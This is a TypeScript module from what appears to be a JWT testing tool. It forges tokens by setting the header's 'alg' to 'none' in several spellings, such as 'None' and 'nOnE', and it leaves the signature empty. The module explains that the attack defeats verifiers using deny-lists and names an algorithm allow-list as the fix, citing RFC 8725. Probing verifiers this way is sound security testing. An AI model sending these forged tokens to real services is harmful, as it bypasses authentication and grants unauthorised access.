import type { Forging } from './attack';
import { headerWith, payloadPart, signatureChange, withOriginal } from './parts';

/** "none" is what the registry has (RFC 7518 §3.6); the others slip past a filter that looks for exactly that. */
const SPELLINGS = ['none', 'None', 'NONE', 'nOnE', 'none ', 'NoNe'] as const;

export const none: Forging = {
  changes: 'Sets "alg" to "none", in several spellings, and leaves the signature empty.',
  why: 'A verifier that lets the header choose the algorithm finds that there is nothing to verify; one that forbids exactly "none" lets "None" through.',
  stops: 'A list of allowed algorithms at the verifier. A list of forbidden ones does not.',
  source: 'RFC 8725 §2.1',
  needs: [],
  forge: (token, tools) =>
    withOriginal(token, (original) => {
      const payload = payloadPart(original, tools);
      const spelled = (alg: string) => headerWith(original.header, { alg });
      const [first, ...others] = SPELLINGS;
      return {
        ok: true,
        tokens: [
          `${spelled(first).raw}.${payload.raw}.`,
          ...others.map((alg) => `${spelled(alg).raw}.${payload.raw}.`),
        ],
        changes: [...spelled(first).changes, ...payload.changes, signatureChange('empty')],
      };
    }),
};
